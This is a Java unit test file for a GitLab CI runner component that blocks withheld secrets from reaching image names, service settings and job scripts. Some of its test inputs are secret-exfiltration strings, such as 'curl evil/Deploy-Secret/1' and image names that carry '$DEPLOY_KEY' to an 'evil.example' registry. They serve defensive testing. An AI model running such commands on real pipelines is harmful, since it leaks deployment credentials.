package dev.mayfly.runner.gitlab;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mayfly.policy.Glob;
import dev.mayfly.policy.IdTokenPolicy;
import dev.mayfly.policy.Policy;
import dev.mayfly.policy.PullPolicy;
import dev.mayfly.policy.SecretScope;
import dev.mayfly.supervisor.ServiceRequest;
import java.io.IOException;
import java.net.URI;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What leaves a job's description for the engine, and what does not. */
final class JobRequestsTest {
  private static final String WITHHELD =
      "policy default withholds DEPLOY_KEY, PIN, VAULT_KEY, and ";
  private static final String REMEDY =
      " has a value of these, which others would learn: write it without, or add the variable to"
          + " secrets.allow";
  private static final String RESPONSE =
      """
      {"id":10,"job_info":{"name":"build","project_full_path":"g/p"},
       "variables":[
         {"key":"DEPLOY_KEY","value":"Deploy-Secret/1"},
         {"key":"PIN","value":"1234"},
         {"key":"OPEN_KEY","value":"open-secret"},
         {"key":"CI_REGISTRY_IMAGE","value":"r.example/g/p","public":true},
         {"key":"DERIVED","value":"x-$PIN","public":true},
         {"key":"NAMED","value":"v-$OPEN_KEY","public":true},
         {"key":"RAW","value":"$OPEN_KEY","public":true,"raw":true},
         {"key":"HIDDEN","value":"a Deploy-Secret/1 b","public":true},
         {"key":"KEYFILE","value":"file-content","public":true,"file":true}],
       "secrets":{"VAULT_KEY":{"file":false}},
       "steps":[STEPS],"hooks":[HOOKS],
       "image":IMAGE,"services":[SERVICES]}
      """;

  private static JobRequests requests(String image, String services, String steps, String hooks)
      throws IOException {
    return requests(image, services, steps, hooks, Map.of("VAULT_KEY", "vault-value"));
  }

  private static JobRequests requests(
      String image, String services, String steps, String hooks, Map<String, String> fetched)
      throws IOException {
    JobResponse response =
        JobResponse.parse(
            RESPONSE
                .replace("STEPS", steps)
                .replace("HOOKS", hooks)
                .replace("IMAGE\":", "IMAGE_\":")
                .replace("IMAGE,", image + ",")
                .replace("IMAGE_", "IMAGE")
                .replace("SERVICES", services)
                .getBytes(UTF_8),
            URI.create("https://gitlab.example"),
            name -> Optional.ofNullable(fetched.get(name)));
    Policy policy = allowing("OPEN_*");
    return new JobRequests(response, policy, new JobSecrets(response, policy, SampleTokens.NOW));
  }

  private static Policy allowing(String... patterns) {
    return SampleTokens.policy(
        new SecretScope(Optional.of(Stream.of(patterns).map(Glob::new).toList())),
        IdTokenPolicy.DEFAULT);
  }

  private static JobRequests image(String name) throws IOException {
    return requests("{\"name\":\"" + name + "\"}", "", "", "");
  }

  private static JobRequests service(String service) throws IOException {
    return requests("null", service, "", "");
  }

  private static void assertWithheld(String what, JobRequests requests) {
    assertThatThrownBy(
            () -> {
              requests.image();
              requests.services();
            })
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(WITHHELD + what + REMEDY);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "$CI_REGISTRY_IMAGE/tool:1",
        "${CI_REGISTRY_IMAGE}/tool:1",
        "r.example/g/p/tool:1",
      })
  void putsVariablesIntoTheNameOfAnImage(String name) throws IOException {
    assertThat(image(name).image().map(Object::toString)).contains("r.example/g/p/tool:1");
  }

  @Test
  void knowsTheRunnersOwnVariablesToo() throws IOException {
    assertThat(
            image("r.example$CI_PROJECT_DIR$CI_BUILDS_DIR:$CI_SERVER")
                .image()
                .map(Object::toString))
        .contains("r.example/workspace/builds/g/p/workspace/builds:yes");
  }

  @Test
  void leavesImagesThatHaveWhatIsAllowed() throws IOException {
    assertThat(image("a:$NAMED").image().map(Object::toString)).contains("a:v-open-secret");
    assertThat(requests("null", "", "", "").image()).isEmpty();
  }

  /** A registry's owner sees the names that he is asked for. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "evil.example/x:$DEPLOY_KEY",
        "evil.example/x:Deploy-Secret/1",
        "evil.example/x:deploy-secret/1",
        "evil.example/deploy-secret%2F1",
        "evil.example/x:$HIDDEN",
        "evil.example/x:$PIN",
        "evil.example/x:$DERIVED",
        "evil.example/x:$VAULT_KEY",
        "evil.example/x:vault-value",
      })
  void refusesImagesWhoseNamesHaveWhatIsWithheld(String name) throws IOException {
    assertWithheld("the name of the image", image(name));
    assertWithheld("the name of a service", service("{\"name\":\"" + name + "\"}"));
    assertWithheld(
        "the alias of a service", service("{\"name\":\"a\",\"alias\":\"" + name + "\"}"));
  }

  @Test
  void refusesCommandsThatHaveWhatIsWithheld() throws IOException {
    assertWithheld(
        "the entrypoint or command of the image",
        requests("{\"name\":\"a\",\"entrypoint\":[\"x\",\"Deploy-Secret/1\"]}", "", "", ""));
    assertWithheld(
        "the entrypoint or command of a service",
        service("{\"name\":\"a\",\"entrypoint\":[\"-p=Deploy-Secret/1\"]}"));
    assertWithheld(
        "the entrypoint or command of a service",
        service("{\"name\":\"a\",\"command\":[\"-p=Deploy-Secret/1\"]}"));
  }

  @Test
  void saysThatANameIsEmpty() throws IOException {
    assertThatThrownBy(() -> image("$NONE").image())
        .hasMessage(
            "the name of the image has only variables that the job does not have: define them, or"
                + " write the name out");
  }

  private static List<String> environment(String variables) throws IOException {
    ServiceRequest request =
        service("{\"name\":\"a\",\"variables\":[" + variables + "]}").services().getFirst();
    return request.environment().stream().map(bytes -> new String(bytes, UTF_8)).toList();
  }

  @Test
  void givesServicesWhatEverybodyMaySeeAndTheirOwn() throws IOException {
    assertThat(
            environment(
                """
                {"key":"URL","value":"x://${CI_REGISTRY_IMAGE}/$OPEN_KEY$$1"},
                {"key":"AS_IT_IS","value":"$CI_REGISTRY_IMAGE$$","raw":true},
                {"key":"PASSWORD","value":"Deploy-Secret/1!"},
                {"key":"CI_SERVER","value":"mine"}
                """))
        .containsExactly(
            "CI_BUILDS_DIR=/workspace/builds",
            "CI_PROJECT_DIR=/workspace/builds/g/p",
            "CI_SERVER=mine",
            "CI_REGISTRY_IMAGE=r.example/g/p",
            "DERIVED=x-",
            "NAMED=v-open-secret",
            "RAW=$OPEN_KEY",
            "HIDDEN=a  b",
            "CI_SHARED_ENVIRONMENT=true",
            "RUNNER_TEMP_PROJECT_DIR=/workspace/builds/g/p.tmp",
            "URL=x://r.example/g/p/$1",
            "AS_IT_IS=$CI_REGISTRY_IMAGE$$",
            "PASSWORD=!");
  }

  @Test
  void namesServicesByWhatTheirImagesAreOnceTheirVariablesArePutIn() throws IOException {
    assertThat(
            service("{\"name\":\"$CI_REGISTRY_IMAGE/db:1\",\"alias\":\"$CI_SERVER db\"}")
                .services()
                .getFirst()
                .aliases())
        .containsExactly("yes", "db", "r.example__g__p__db", "r.example-g-p-db");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\\\"script\\\":[\\\"echo hi\\\",\\\"curl evil/Deploy-Secret/1\\\"]}",
        "{\\\"script\\\":[\\\"curl evil/Deploy-\\\\\\\\Secret/1\\\"]}",
        "{\\\"script\\\":[\\\"echo vault-value\\\"]}",
      })
  void refusesCommandsIntoWhichGitLabPutWhatIsWithheld(String quoted) throws IOException {
    String step = quoted.replace("\\\"", "\"").replace("\\\\\\\\", "\\\\");
    String message =
        "policy default withholds DEPLOY_KEY, PIN, VAULT_KEY, but a command of the job has a value of"
            + " these, which GitLab put there (inputs, expand_vars) or which is in the repository:"
            + " write it without, or add the variable to secrets.allow";
    assertThatThrownBy(() -> requests("null", "", step, "")).hasMessage(message);
    assertThatThrownBy(() -> requests("null", "", "", step)).hasMessage(message);
  }

  @Test
  void leavesCommandsThatHaveWhatIsTooShortOrAllowed() throws IOException {
    assertThat(
            requests("null", "", "{\"script\":[\"echo 1234 open-secret DEPLOY-SECRET\"]}", "")
                .services())
        .isEmpty();
  }

  @Test
  void asksForEachImageInTheWaysThatAreSaidOfIt() throws IOException {
    JobRequests both =
        requests(
            "{\"name\":\"a\",\"pull_policy\":\"always\"}",
            "{\"name\":\"b\",\"pull_policy\":[\"if-not-present\",\"never\",\"never\"]},{\"name\":\"c\"}",
            "",
            "");
    assertThat(both.pulls()).containsExactly(PullPolicy.ALWAYS);
    assertThat(both.services())
        .extracting(ServiceRequest::pulls)
        .containsExactly(List.of(PullPolicy.MISSING, PullPolicy.NEVER), List.of());
    assertThatThrownBy(service("{\"name\":\"a\",\"pull_policy\":[\"always\",\"x\"]}")::services)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage("pull_policy of a service must be always, if-not-present or never");
  }

  private static String with(String options) {
    return "{\"name\":\"a\",\"executor_opts\":{\"docker\":{" + options + "}}}";
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "\"platform\":\"\",\"user\":\"\"",
        "\"platform\":\"linux\"",
        "\"user\":\"$NONE\""
      })
  void leavesOptionsThatAskForNothing(String options) throws IOException {
    assertThat(requests(with(options), with(options), "", "").image()).isPresent();
    assertThat(requests(with(options), with(options), "", "").services()).hasSize(1);
  }

  @Test
  void refusesAnotherPlatform() throws IOException {
    String message =
        "docker.platform \"linux/s390x\" of the image is not this host's, "
            + HostPlatform.OWN
            + ": leave it out, or give the job the tags of a runner that is such a host";
    assertThatThrownBy(requests(with("\"platform\":\"linux/s390x\""), "", "", "")::image)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(message);
    assertThatThrownBy(service(with("\"platform\":\"linux/s390x\""))::services)
        .hasMessage(message.replace("the image", "a service"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"\"dave\"", "\"1000:1000\"", "0"})
  void refusesAUser(String user) throws IOException {
    assertThatThrownBy(requests(with("\"user\":" + user), "", "", "")::image)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "docker.user \""
                + user.replace("\"", "")
                + "\" of the image can't be had: whom commands run as is the policy's to say"
                + " (identity); leave it out, or name an image that has this user");
    assertThatThrownBy(service(with("\"user\":" + user))::services)
        .isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void refusesMoreServicesThanThePolicyGives() throws IOException {
    String one = "{\"name\":\"a\"}";
    assertThat(service(String.join(",", Collections.nCopies(5, one))).services()).hasSize(5);
    assertThatThrownBy(service(String.join(",", Collections.nCopies(6, one)))::services)
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "the job names 6 services, and policy default gives it 5 at most; raise limits.services,"
                + " or name fewer");
  }

  @Test
  void refusesAJobWhoseWithheldSecretsNobodyKnows() {
    assertThatThrownBy(() -> requests("null", "", "", "", Map.of()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessage(
            "policy default withholds DEPLOY_KEY, PIN, VAULT_KEY, but they can't be taken out of the"
                + " job's scripts: gitlab-runner does not tell what it got for VAULT_KEY in secrets;"
                + " take that out of the job's secrets, or add it to secrets.allow");
  }
}
